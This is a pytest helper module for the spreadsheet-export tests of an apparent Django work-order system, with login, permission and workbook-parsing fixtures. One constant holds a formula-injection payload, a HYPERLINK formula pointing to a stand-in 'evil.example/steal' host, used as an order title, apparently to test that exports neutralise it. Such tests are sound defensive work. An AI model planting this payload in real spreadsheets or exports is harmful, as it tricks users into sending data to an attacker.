"""Helpers for the export tests: a logged-in GET, and the workbook of a response."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from types import SimpleNamespace
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from govdesk.org.tests.factories import login_verified
from govdesk.workorders.states import Status
from govdesk.workorders.tests.factories import make_order

SHANGHAI = ZoneInfo("Asia/Shanghai")
INJECTION = '=HYPERLINK("http://evil.example/steal","点我")'
# Orders are made at this moment (a Monday, working hours) so dates and periods are fixed.
MOMENT = datetime(2026, 10, 12, 10, 0, tzinfo=SHANGHAI)


@pytest.fixture
def get_as() -> Callable[..., Any]:
    def get(user: Any, url: str, **params: Any) -> Any:
        client = Client()
        if user is not None:
            login_verified(client, user)  # a 403 must come from the role, not the second factor
        return client.get(url, params)

    return get


def grant_export_unmasked(*users: Any) -> None:
    """What the security administrator does for an account that needs full phone numbers in exports."""
    from django.contrib.auth.models import Permission

    permission = Permission.objects.get(content_type__app_label="reports", codename="export_unmasked")
    for user in users:
        user.user_permissions.add(permission)


def workbook_of(response: Any) -> Workbook:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(body))


def body_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else bytes(response.content)


@pytest.fixture
def orders(people: SimpleNamespace, district: SimpleNamespace, categories: SimpleNamespace) -> SimpleNamespace:
    with time_machine.travel(datetime(2026, 9, 1, 10, 0, tzinfo=SHANGHAI), tick=False):
        new = make_order(people, district, categories.facilities, Status.NEW, title=INJECTION)
    with time_machine.travel(datetime(2026, 9, 8, 10, 0, tzinfo=SHANGHAI), tick=False):
        handling = make_order(people, district, categories.housing, Status.HANDLING, title="+86 来电 @住建")
        wages = make_order(
            people,
            district,
            categories.wages,
            Status.DISPATCHED,
            unit=district.dept_b,
            handler=people.handler_b,
            channel="web",
            citizen_phone="13900001111",
            citizen_name="李四",
            confidential=True,
        )
    with time_machine.travel(datetime(2026, 9, 15, 10, 0, tzinfo=SHANGHAI), tick=False):
        closed = make_order(people, district, categories.bus, Status.CLOSED, title="公交改线")
    return SimpleNamespace(new=new, handling=handling, wages=wages, closed=closed)
